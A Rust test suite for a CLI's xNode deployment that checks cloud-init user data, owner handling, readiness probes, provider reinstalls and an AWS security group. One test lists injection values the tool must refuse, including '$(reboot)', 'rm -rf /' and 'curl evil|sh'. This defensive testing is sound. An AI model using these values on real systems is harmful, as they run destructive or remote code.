//! xNodes (`deploy --xnode`): the rendered user data (golden), hostile values refused, owner
//! normalisation, eligibility in manual and smart deploys, the per-provider image, output, the
//! readiness ladder against a local fake xNode, reinstall and the AWS security group.

use crate::support::fake_xnode::{Behaviour, FakeXnode};
use crate::support::mock::{MockConfig, MockServer, Op, Provider};
use crate::support::{against, capsule, Capsule};
use serde_json::Value;

const OWNER_MIXED: &str = "0xABCDEF0123456789abcdef0123456789ABCDEF01";
const OWNER_NORM: &str = "eth:abcdef0123456789abcdef0123456789abcdef01";

/// The user data a dry run of `deploy --template T --xnode EXTRA…` would send.
#[track_caller]
fn dry_user_data(template: &str, extra: &[&str]) -> String {
    let mut args = vec![
        "openmesh",
        "deploy",
        "--template",
        template,
        "--xnode",
        "--dry-run",
        "-o",
        "json",
    ];
    args.extend_from_slice(extra);
    let out = capsule().args(&args).ok();
    let v = out.json();
    v["nodes"][0]["user_data"]
        .as_str()
        .unwrap_or_else(|| panic!("no user_data in {v}"))
        .to_string()
}

// ---------------------------------------------------------------------------------------------
// User data

#[test]
fn user_data_with_an_owner_is_golden_and_normalises_the_owner() {
    let ud = dry_user_data("linode-2gb", &["--owner", OWNER_MIXED]);
    golden("owner.yaml", &ud);
    assert!(ud.starts_with("#cloud-config\n"), "{ud}");
    assert!(
        ud.contains(&format!("export OWNER=\"{OWNER_NORM}\"")),
        "{ud}"
    );
    assert!(
        !ud.contains("XNODE_OWNER"),
        "the v1 installer reads OWNER: {ud}"
    );
    assert!(ud.contains("/xnodeos/v1.0.0/install.sh"), "{ud}");
    assert!(ud.contains("export VERSION=\"v1.0.0\""), "{ud}");
    assert_eq!(ud.matches("runcmd").count(), 1);
}

#[test]
fn user_data_with_owner_domain_and_email_is_golden() {
    let ud = dry_user_data(
        "linode-2gb",
        &[
            "--owner",
            &format!("eth:{}", &OWNER_NORM[4..]),
            "--domain",
            "node1.example.org",
            "--email",
            "ops+xnode@example.org",
        ],
    );
    golden("owner-domain-email.yaml", &ud);
    assert!(ud.contains("export DOMAIN=\"node1.example.org\""), "{ud}");
    assert!(
        ud.contains("export EMAIL=\"ops+xnode@example.org\""),
        "{ud}"
    );
}

#[test]
fn xnode_version_pins_the_release_and_the_script_url_to_one_tag() {
    let ud = dry_user_data(
        "linode-2gb",
        &["--owner", OWNER_MIXED, "--xnode-version", "v1.2.3"],
    );
    golden("pinned-version.yaml", &ud);
    assert!(ud.contains("export VERSION=\"v1.2.3\""), "{ud}");
    assert!(ud.contains("/xnodeos/v1.2.3/install.sh"), "{ud}");
    assert!(!ud.contains("v1.0.0"), "{ud}");
}

#[test]
fn user_data_is_far_under_every_providers_limit() {
    let out = capsule().args(["openmesh", "providers", "-o", "json"]).ok();
    let providers: Vec<String> = out
        .json()
        .as_array()
        .expect("providers")
        .iter()
        .map(|p| p["id"].as_str().unwrap_or("").to_string())
        .collect();
    assert_eq!(providers.len(), 7);
    let longest = dry_user_data(
        "linode-2gb",
        &[
            "--owner",
            OWNER_MIXED,
            "--domain",
            &format!("{}.example.org", "a".repeat(63)),
            "--email",
            &format!("{}@example.org", "b".repeat(64)),
        ],
    );
    // The smallest provider limit is EC2's 16 KB (catalog/aws/provider.toml).
    assert!(longest.len() < 1024, "{} bytes", longest.len());
    assert!(longest.len() * 16 < 16384);
}

#[test]
fn dry_run_table_shows_the_user_data() {
    let out = capsule()
        .args([
            "openmesh",
            "deploy",
            "--template",
            "aws-t3-medium",
            "--xnode",
            "--owner",
            OWNER_MIXED,
            "--dry-run",
        ])
        .ok();
    out.stdout_has("user data (")
        .stdout_has(&format!("export OWNER=\"{OWNER_NORM}\""))
        .stdout_has("Dry run: nothing was created.");
    assert!(out.stderr.contains("wipes"), "{}", out.stderr);
    assert_eq!(
        out.stderr.matches("wipes").count(),
        1,
        "warned once: {}",
        out.stderr
    );
}

#[test]
fn hostile_values_are_refused_with_exit_2_naming_value_and_rule() {
    let good = OWNER_MIXED;
    let cases: Vec<(&str, String, &str)> = vec![
        ("--owner", format!("{good}\""), "40 hex digits"),
        ("--owner", "0x$(reboot)".to_string(), "40 hex digits"),
        ("--owner", format!("0x{}`", &good[2..41]), "40 hex digits"),
        (
            "--owner",
            format!("{good}\nexport DEBUG=1"),
            "40 hex digits",
        ),
        ("--owner", "0x1234abcd".to_string(), "40 hex digits"),
        ("--owner", good[2..].to_string(), "40 hex digits"),
        ("--owner", format!("{good}00"), "40 hex digits"),
        (
            "--domain",
            "a.example.com\" && rm -rf / #".to_string(),
            "hostname",
        ),
        ("--domain", "$(id).example.com".to_string(), "hostname"),
        ("--domain", "`id`.example.com".to_string(), "hostname"),
        (
            "--domain",
            "ok.example.com\nruncmd: [x]".to_string(),
            "hostname",
        ),
        ("--domain", "a'b.example.com".to_string(), "hostname"),
        ("--email", "me@example.com\"".to_string(), "email address"),
        ("--email", "$USER@example.com".to_string(), "email address"),
        ("--email", "me@example.com\n".to_string(), "email address"),
        (
            "--xnode-version",
            "v1.0.0\"; curl evil|sh".to_string(),
            "release tag",
        ),
        ("--xnode-version", "main".to_string(), "release tag"),
    ];
    for (flag, value, rule) in cases {
        let mut args = vec![
            "openmesh".to_string(),
            "deploy".into(),
            "--template".into(),
            "linode-2gb".into(),
            "--xnode".into(),
            "--dry-run".into(),
        ];
        if flag != "--owner" {
            args.extend(["--owner".into(), good.into()]);
        }
        args.extend([flag.to_string(), value.clone()]);
        let out = capsule().args(&args).code(2);
        assert!(
            out.stderr.contains(flag) && out.stderr.contains(rule),
            "{flag} {value:?}: {}",
            out.stderr
        );
        // The value is named (control characters made visible), and nothing was rendered.
        let first_line = value.lines().next().unwrap_or("");
        assert!(
            out.stderr.contains(&first_line.escape_debug().to_string()),
            "{flag} {value:?} not named: {}",
            out.stderr
        );
        assert!(out.stdout.is_empty(), "{}", out.stdout);
        assert!(!out.stderr.contains("panicked"), "{}", out.stderr);
    }
}

#[test]
fn without_owner_deploy_refuses_and_says_the_api_would_be_open() {
    let out = capsule()
        .args([
            "openmesh",
            "deploy",
            "--template",
            "linode-2gb",
            "--xnode",
            "--dry-run",
        ])
        .code(2);
    assert!(out.stderr.contains("--owner"), "{}", out.stderr);
    assert!(out.stderr.contains("anyone"), "{}", out.stderr);
    assert!(out.stderr.contains("--no-owner"), "{}", out.stderr);
}

#[test]
fn no_owner_is_allowed_with_a_loud_warning_and_no_owner_line() {
    let out = capsule()
        .args([
            "openmesh",
            "deploy",
            "--template",
            "linode-2gb",
            "--xnode",
            "--no-owner",
            "--dry-run",
            "-o",
            "json",
        ])
        .ok();
    assert!(
        out.stderr.contains("WARNING") && out.stderr.contains("ANYONE"),
        "{}",
        out.stderr
    );
    let ud = out.json()["nodes"][0]["user_data"]
        .as_str()
        .unwrap_or("")
        .to_string();
    assert!(!ud.contains("OWNER"), "{ud}");
    assert!(ud.contains("install.sh"), "{ud}");
}

#[test]
fn owner_flags_need_xnode() {
    let out = capsule()
        .args([
            "openmesh",
            "deploy",
            "--template",
            "linode-2gb",
            "--owner",
            OWNER_MIXED,
            "--dry-run",
        ])
        .code(2);
    assert!(out.stderr.contains("--xnode"), "{}", out.stderr);
}

// ---------------------------------------------------------------------------------------------
// Eligibility and image

#[test]
fn manual_deploy_refuses_a_1_gb_template_citing_the_threshold() {
    let out = capsule()
        .args([
            "openmesh",
            "deploy",
            "--template",
            "do-small",
            "--xnode",
            "--owner",
            OWNER_MIXED,
            "--dry-run",
        ])
        .code(2);
    assert!(out.stderr.contains("'do-small' has 1 GB"), "{}", out.stderr);
    assert!(out.stderr.contains("2 GB"), "{}", out.stderr);
    assert!(out.stderr.contains("dashboard"), "{}", out.stderr);
}

#[test]
fn manual_deploy_refuses_an_arm64_template() {
    let out = capsule()
        .args([
            "openmesh",
            "deploy",
            "--template",
            "scw-basic2-a2c-4g",
            "--xnode",
            "--owner",
            OWNER_MIXED,
            "--dry-run",
        ])
        .code(2);
    assert!(out.stderr.contains("arm64"), "{}", out.stderr);
    assert!(out.stderr.contains("x86_64"), "{}", out.stderr);
}

#[test]
fn smart_deploy_counts_xnode_rejections_under_their_own_reasons() {
    let out = capsule()
        .args([
            "openmesh",
            "deploy",
            "--min-cpu",
            "1",
            "--xnode",
            "--owner",
            OWNER_MIXED,
            "--include-unconfigured",
            "--dry-run",
            "-o",
            "json",
        ])
        .ok();
    let v = out.json();
    let rejected = v["plan"]["rejected"].as_array().expect("rejected").clone();
    let count = |needle: &str| -> u64 {
        rejected
            .iter()
            .filter(|r| r["constraint"].as_str().unwrap_or("").contains(needle))
            .map(|r| r["offers"].as_u64().unwrap_or(0))
            .sum()
    };
    assert!(count("--xnode (no XnodeOS installer") >= 1, "{rejected:?}");
    assert!(count("--xnode (less memory") >= 1, "{rejected:?}");
    let choice = &v["plan"]["choice"];
    assert!(
        choice["memory_gb"].as_f64().unwrap_or(0.0) >= 2.0,
        "{choice}"
    );
    // Every candidate is eligible too.
    for c in v["plan"]["candidates"].as_array().expect("candidates") {
        assert!(c["memory_gb"].as_f64().unwrap_or(0.0) >= 2.0, "{c}");
    }
    // The same plan in words.
    let out = capsule()
        .args([
            "openmesh",
            "deploy",
            "--min-cpu",
            "1",
            "--xnode",
            "--owner",
            OWNER_MIXED,
            "--include-unconfigured",
            "--dry-run",
        ])
        .ok();
    out.stdout_has("by --xnode (no XnodeOS installer for the architecture)")
        .stdout_has("by --xnode (less memory than XnodeOS needs)");
}

#[test]
fn hivelocity_image_depends_on_the_product_kind() {
    let overlay = tempfile::tempdir().expect("overlay");
    std::fs::create_dir_all(overlay.path().join("hivelocity")).expect("mkdir");
    std::fs::write(
        overlay.path().join("hivelocity/templates.toml"),
        r#"[[templates]]
id = "hive-vps-test"
plan = "2379"
name = "VPS 2 vCPU / 4 GB"
cpu = 2
memory_gb = 4
storage_gb = 80
bandwidth_tb = 2
price_hourly = 0.0125
price_monthly = 9.15
arch = "x86_64"
regions = ["atlanta"]
features = ["vps"]
"#,
    )
    .expect("overlay");
    let os_name = |template: &str| -> String {
        let out = capsule()
            .env("CAPSULE_CATALOG", overlay.path().to_string_lossy())
            .args([
                "openmesh",
                "deploy",
                "--template",
                template,
                "--xnode",
                "--owner",
                OWNER_MIXED,
                "--dry-run",
                "-o",
                "json",
            ])
            .ok();
        let v = out.json();
        let body = v["nodes"][0]["requests"][0]["body"]
            .as_str()
            .unwrap_or("")
            .to_string();
        let body: Value = serde_json::from_str(&body).expect("json body");
        body["osName"].as_str().unwrap_or("").to_string()
    };
    assert_eq!(os_name("hive-vps-test"), "Ubuntu 24.04 (VPS)");
    assert_eq!(os_name("hive-large"), "Ubuntu 24.04");
}

// ---------------------------------------------------------------------------------------------
// Real deploys against the provider mocks

#[test]
fn deploy_creates_a_node_with_the_pinned_installer_and_prints_the_next_step() {
    let mock = MockServer::new(Provider::DigitalOcean);
    let c = against(capsule(), &[&mock]).args([
        "openmesh",
        "deploy",
        "--template",
        "do-medium",
        "--xnode",
        "--owner",
        OWNER_MIXED,
        "--domain",
        "node1.example.org",
        "--name",
        "xn1",
        "--wait",
        "--yes",
    ]);
    let out = c.ok();
    assert_eq!(mock.count_creates(), 1);
    let node = &mock.nodes()[0];
    let ud = node.user_data.clone().expect("user data sent");
    assert!(
        ud.contains(&format!("export OWNER=\"{OWNER_NORM}\"")),
        "{ud}"
    );
    assert!(ud.contains("/xnodeos/v1.0.0/install.sh"), "{ud}");
    assert_eq!(node.image, "ubuntu-24-04-x64");
    let ip = node.ip.clone().expect("ip");
    out.stdout_has(&format!(
        "xNode xn1: IP {ip}, owner {OWNER_NORM}, domain node1.example.org"
    ))
    .stdout_has("next: import it in the OpenMesh dashboard");
    assert_eq!(out.stderr.matches("wipes").count(), 1, "{}", out.stderr);
    // JSON carries the same.
    let out = c.run_args(&[
        "openmesh",
        "deploy",
        "--template",
        "do-medium",
        "--xnode",
        "--owner",
        OWNER_MIXED,
        "--name",
        "xn2",
        "--wait",
        "--yes",
        "-o",
        "json",
    ]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    let v = out.json();
    let n = &v["nodes"][0];
    assert_eq!(n["xnode"]["owner"], OWNER_NORM);
    assert_eq!(n["xnode"]["version"], "v1.0.0");
    assert!(n["ipv4"].is_string(), "{n}");
    assert!(
        n["xnode"]["next_step"]
            .as_str()
            .unwrap_or("")
            .contains("Import"),
        "{n}"
    );
    // History records the installer given to each node.
    let h = c.run_args(&["openmesh", "history", "-o", "json"]);
    assert!(
        h.stdout
            .contains(&format!("installer v1.0.0 owner={OWNER_NORM}")),
        "{}",
        h.stdout
    );
}

#[test]
fn a_fleet_of_xnodes_gets_the_installer_on_every_node() {
    let mock = MockServer::new(Provider::Vultr);
    let c = against(capsule(), &[&mock]).args([
        "openmesh",
        "deploy",
        "--template",
        "vultr-vc2-2",
        "--xnode",
        "--owner",
        OWNER_MIXED,
        "--count",
        "3",
        "--name",
        "fx",
        "--yes",
    ]);
    c.ok();
    let nodes = mock.nodes();
    assert_eq!(nodes.len(), 3);
    for n in nodes {
        let ud = n.user_data.clone().expect("user data");
        assert!(ud.contains(&format!("OWNER=\"{OWNER_NORM}\"")), "{ud}");
    }
    assert!(mock.count(Op::Create) == 3);
    let _ = MockConfig::default();
}

// ---------------------------------------------------------------------------------------------
// Readiness against a local fake xNode

/// A DigitalOcean mock whose nodes get 127.0.0.1, and a capsule pointed at `fake`.
fn ladder(fake: &FakeXnode) -> (MockServer, Capsule, tempfile::TempDir) {
    let mock = MockServer::start(
        Provider::DigitalOcean,
        MockConfig::default().with_public_ip("127.0.0.1"),
    );
    let overlay = fake.overlay();
    let c = against(capsule(), &[&mock]).env("CAPSULE_CATALOG", overlay.path().to_string_lossy());
    (mock, c, overlay)
}

fn xnode_events(c: &Capsule) -> Vec<String> {
    let h = c.run_args(&["openmesh", "history", "-o", "json"]);
    assert_eq!(h.code, 0, "{}", h.stderr);
    h.json()
        .as_array()
        .expect("events")
        .iter()
        .filter(|e| e["action"] == "xnode")
        .map(|e| {
            assert!(e["time"].as_str().is_some_and(|t| t.ends_with('Z')), "{e}");
            e["message"].as_str().unwrap_or("").to_string()
        })
        .collect()
}

#[test]
fn wait_ready_reaches_the_login_redirect_stage() {
    let fake = FakeXnode::start(Behaviour::Protected);
    let (_mock, c, _overlay) = ladder(&fake);
    let out = c.run_args(&[
        "openmesh",
        "deploy",
        "--template",
        "do-medium",
        "--xnode",
        "--owner",
        OWNER_MIXED,
        "--name",
        "ready1",
        "--wait-ready",
        "--timeout",
        "2m",
        "--yes",
    ]);
    assert_eq!(out.code, 0, "{}\n{}", out.stdout, out.stderr);
    assert!(
        out.stderr.contains("ready1: stage 4/4 protected"),
        "{}",
        out.stderr
    );
    out.stdout_has("xNode ready1: IP 127.0.0.1")
        .stdout_has("stage protected");
    // The probe spoke to the manager's vhost, by SNI and Host.
    let seen = fake.seen.lock().expect("seen").clone();
    assert!(!seen.is_empty());
    assert!(
        seen.iter()
            .all(|(sni, host)| sni == "manager.xnode.local"
                && host.starts_with("manager.xnode.local")),
        "{seen:?}"
    );
    // Every stage reached is in history, in order, with its time.
    let ev = xnode_events(&c);
    let stages: Vec<&str> = ev
        .iter()
        .filter_map(|m| m.strip_prefix("stage "))
        .map(|m| {
            m.split_whitespace()
                .nth(1)
                .unwrap_or("")
                .trim_end_matches(':')
        })
        .collect();
    assert_eq!(stages.first(), Some(&"running"), "{ev:?}");
    assert_eq!(stages.last(), Some(&"protected"), "{ev:?}");
    // The inventory shows the stage.
    let inv = c.run_args(&["openmesh", "inventory", "-o", "json"]);
    let rows = inv.json();
    assert_eq!(rows[0]["xnode"], "protected", "{rows}");
    let table = c.run_args(&["openmesh", "inventory"]);
    assert!(
        table.stdout.contains("XNODE") && table.stdout.contains("protected"),
        "{}",
        table.stdout
    );
    assert_eq!(rows[0]["status"], "running", "{rows}");
    assert_eq!(rows[0]["ipv4"], "127.0.0.1", "{rows}");
    // status --probe observes the same stage.
    let st = crate::schemas::pin(&c, "status-probe", &["status", "ready1", "--probe"]);
    assert_eq!(st[0]["stage"], "protected");
}

#[test]
fn wait_ready_times_out_naming_the_installer_stage() {
    let fake = FakeXnode::start(Behaviour::NeverOpens);
    let (_mock, c, _overlay) = ladder(&fake);
    let out = c.run_args(&[
        "openmesh",
        "deploy",
        "--template",
        "do-medium",
        "--xnode",
        "--owner",
        OWNER_MIXED,
        "--name",
        "stuck1",
        "--wait-ready",
        "--timeout",
        "2s",
        "--yes",
    ]);
    assert_eq!(out.code, 1, "{}\n{}", out.stdout, out.stderr);
    assert!(
        out.stderr
            .contains("stuck1 was not ready within 2s: last stage reached 2/4 installing"),
        "{}",
        out.stderr
    );
    let ev = xnode_events(&c);
    assert!(
        ev.iter().any(|m| m.starts_with("stage 2/4 installing")),
        "{ev:?}"
    );
    assert!(
        ev.iter()
            .any(|m| m == "readiness timed out at stage installing"),
        "{ev:?}"
    );
    let inv = c.run_args(&["openmesh", "inventory", "-o", "json"]).json();
    assert_eq!(inv[0]["xnode"], "installing", "{inv}");
}

#[test]
fn a_direct_answer_is_reported_unprotected() {
    let fake = FakeXnode::start(Behaviour::Unprotected);
    let (_mock, c, _overlay) = ladder(&fake);
    // Given an owner, an open manager is a failure: the owner did not take.
    let out = c.run_args(&[
        "openmesh",
        "deploy",
        "--template",
        "do-medium",
        "--xnode",
        "--owner",
        OWNER_MIXED,
        "--name",
        "open1",
        "--wait-ready",
        "--timeout",
        "2m",
        "--yes",
    ]);
    assert_eq!(out.code, 1, "{}\n{}", out.stdout, out.stderr);
    assert!(
        out.stderr.contains("open1: stage 4/4 unprotected"),
        "{}",
        out.stderr
    );
    assert!(out.stderr.contains("without a login"), "{}", out.stderr);
    let st = c.run_args(&["openmesh", "status", "open1", "--probe"]);
    assert_eq!(st.code, 0, "{}", st.stderr);
    assert!(st.stdout.contains("unprotected"), "{}", st.stdout);
    assert!(st.stderr.contains("WARNING"), "{}", st.stderr);
    // With --no-owner it is what was asked for: ready, with the warning.
    let out = c.run_args(&[
        "openmesh",
        "deploy",
        "--template",
        "do-medium",
        "--xnode",
        "--no-owner",
        "--name",
        "open2",
        "--wait-ready",
        "--timeout",
        "2m",
        "--yes",
        "-o",
        "json",
    ]);
    assert_eq!(out.code, 0, "{}\n{}", out.stdout, out.stderr);
    let v = out.json();
    assert_eq!(v["nodes"][0]["xnode"]["stage"], "unprotected");
    assert_eq!(v["nodes"][0]["xnode"]["owner"], Value::Null);
}

// ---------------------------------------------------------------------------------------------
// Reinstall

fn reinstall(mock: &MockServer, id: &str, extra: &[&str]) -> crate::support::Output {
    let target = format!("{}:{id}", mock.provider().id());
    let mut args = vec![
        "openmesh",
        "reinstall",
        target.as_str(),
        "--xnode",
        "--owner",
        OWNER_MIXED,
    ];
    args.extend_from_slice(extra);
    against(capsule(), &[mock]).args(&args).run()
}

#[test]
fn reinstall_on_hivelocity_powers_off_then_reloads_with_the_new_script() {
    let mock = MockServer::start(Provider::Hivelocity, MockConfig::default());
    let id = mock.add_node(crate::support::mock::NodeSpec::named("hv1.example.com"));
    let out = reinstall(&mock, &id, &["--yes"]);
    assert_eq!(out.code, 0, "{}\n{}", out.stdout, out.stderr);
    let reqs: Vec<(String, String)> = mock
        .requests()
        .iter()
        .filter(|r| r.method != "GET")
        .map(|r| (r.method.clone(), format!("{}?{}", r.path, r.raw_query)))
        .collect();
    assert_eq!(
        reqs,
        vec![
            (
                "POST".to_string(),
                format!("/api/v2/device/{id}/power?action=shutdown")
            ),
            ("PUT".to_string(), format!("/api/v2/compute/{id}?")),
        ],
        "{}",
        mock.log_summary()
    );
    let put = mock
        .requests()
        .into_iter()
        .find(|r| r.method == "PUT")
        .expect("PUT");
    let body = put.json();
    assert_eq!(body["forceReload"], true);
    assert_eq!(body["osName"], "Ubuntu 24.04");
    assert!(
        body["script"]
            .as_str()
            .unwrap_or("")
            .contains(&format!("OWNER=\"{OWNER_NORM}\"")),
        "{body}"
    );
    assert!(out.stderr.contains("wipes"), "{}", out.stderr);
}

#[test]
fn reinstall_on_linode_rebuilds_with_metadata_user_data() {
    let mock = MockServer::start(Provider::Linode, MockConfig::default());
    let id = mock.add_node(crate::support::mock::NodeSpec::named("ln1"));
    let out = reinstall(&mock, &id, &["--yes", "-o", "json"]);
    assert_eq!(out.code, 0, "{}\n{}", out.stdout, out.stderr);
    let rebuilds: Vec<_> = mock
        .requests()
        .into_iter()
        .filter(|r| r.path.ends_with("/rebuild"))
        .collect();
    assert_eq!(rebuilds.len(), 1, "{}", mock.log_summary());
    assert_eq!(
        rebuilds[0].path,
        format!("/v4/linode/instances/{id}/rebuild")
    );
    let node = mock.node(&id).expect("node");
    assert_eq!(node.image, "linode/ubuntu24.04");
    assert!(node
        .user_data
        .unwrap_or_default()
        .contains(&format!("OWNER=\"{OWNER_NORM}\"")));
    assert!(
        !out.stdout
            .contains(rebuilds[0].json()["root_pass"].as_str().unwrap_or("-")),
        "root password leaked"
    );
    assert_eq!(out.json()["xnode"]["owner"], OWNER_NORM);
}

#[test]
fn reinstall_on_vultr_sets_the_user_data_then_reinstalls() {
    let mock = MockServer::start(Provider::Vultr, MockConfig::default());
    let id = mock.add_node(crate::support::mock::NodeSpec::named("vu1"));
    let out = reinstall(&mock, &id, &["--yes"]);
    assert_eq!(out.code, 0, "{}\n{}", out.stdout, out.stderr);
    let calls: Vec<String> = mock
        .requests()
        .iter()
        .filter(|r| r.method != "GET")
        .map(|r| format!("{} {}", r.method, r.path))
        .collect();
    assert_eq!(
        calls,
        vec![
            format!("PATCH /v2/instances/{id}"),
            format!("POST /v2/instances/{id}/reinstall")
        ],
        "{}",
        mock.log_summary()
    );
    let node = mock.node(&id).expect("node");
    assert!(node
        .user_data
        .unwrap_or_default()
        .contains(&format!("OWNER=\"{OWNER_NORM}\"")));
}

#[test]
fn reinstall_dry_run_shows_the_requests_and_changes_nothing() {
    let mock = MockServer::start(Provider::Vultr, MockConfig::default());
    let id = mock.add_node(crate::support::mock::NodeSpec::named("vu2"));
    let out = reinstall(&mock, &id, &["--dry-run"]);
    assert_eq!(out.code, 0, "{}\n{}", out.stdout, out.stderr);
    out.stdout_has("PATCH http")
        .stdout_has("/reinstall")
        .stdout_has("nothing was changed");
    assert!(
        mock.requests().iter().all(|r| r.method == "GET"),
        "{}",
        mock.log_summary()
    );
}

#[test]
fn reinstall_needs_confirmation_and_is_refused_where_unsupported() {
    let mock = MockServer::start(Provider::Linode, MockConfig::default());
    let id = mock.add_node(crate::support::mock::NodeSpec::named("ln2"));
    let out = reinstall(&mock, &id, &[]);
    assert_eq!(out.code, 2, "{}", out.stderr);
    assert!(
        out.stderr.contains("--yes") && out.stderr.contains("WIPES"),
        "{}",
        out.stderr
    );
    assert!(
        mock.requests().iter().all(|r| r.method == "GET"),
        "{}",
        mock.log_summary()
    );
    for provider in [Provider::DigitalOcean, Provider::Scaleway, Provider::Aws] {
        let m = MockServer::new(provider);
        let out = reinstall(&m, "12345", &["--yes"]);
        assert_eq!(out.code, 2, "{provider:?}: {}", out.stderr);
        assert!(
            out.stderr
                .contains(&format!("not supported by {}", provider.id()))
                && out.stderr.contains("delete the node and deploy"),
            "{}",
            out.stderr
        );
    }
}

// ---------------------------------------------------------------------------------------------
// AWS network

#[test]
fn aws_xnodes_get_one_managed_security_group_with_exactly_80_and_443() {
    let mock = MockServer::new(Provider::Aws);
    let c = against(capsule(), &[&mock]);
    for name in ["ax1", "ax2"] {
        let out = c.run_args(&[
            "openmesh",
            "deploy",
            "--template",
            "aws-t3-medium",
            "--xnode",
            "--owner",
            OWNER_MIXED,
            "--name",
            name,
            "--image",
            "ami-0123456789abcdef0",
            "--yes",
        ]);
        assert_eq!(out.code, 0, "{}\n{}", out.stdout, out.stderr);
    }
    let groups = mock.security_groups();
    assert_eq!(groups.len(), 1, "{groups:?}");
    let (id, name, rules) = &groups[0];
    assert_eq!(name, "capsule-xnode");
    assert_eq!(
        rules,
        &vec![
            "tcp:80-80:0.0.0.0/0".to_string(),
            "tcp:443-443:0.0.0.0/0".to_string()
        ]
    );
    let actions: Vec<String> = mock
        .requests()
        .iter()
        .filter_map(|r| r.form_value("Action"))
        .filter(|a| a.contains("SecurityGroup"))
        .collect();
    assert_eq!(
        actions,
        vec![
            "DescribeSecurityGroups",
            "CreateSecurityGroup",
            "AuthorizeSecurityGroupIngress",
            "DescribeSecurityGroups",
        ],
        "created once, then reused"
    );
    for n in mock.nodes() {
        assert_eq!(
            n.extra["security_group_ids"],
            serde_json::json!([id]),
            "{}",
            n.name
        );
    }
    // A plain deploy leaves security groups alone.
    let out = c.run_args(&[
        "openmesh",
        "deploy",
        "--template",
        "aws-t3-medium",
        "--name",
        "plain",
        "--image",
        "ami-0123456789abcdef0",
        "--yes",
    ]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    let after = mock
        .requests()
        .iter()
        .filter(|r| {
            r.form_value("Action")
                .is_some_and(|a| a.contains("SecurityGroup"))
        })
        .count();
    assert_eq!(after, 4);
}

#[track_caller]
fn golden(name: &str, actual: &str) {
    crate::support::golden("xnode", name, actual);
}
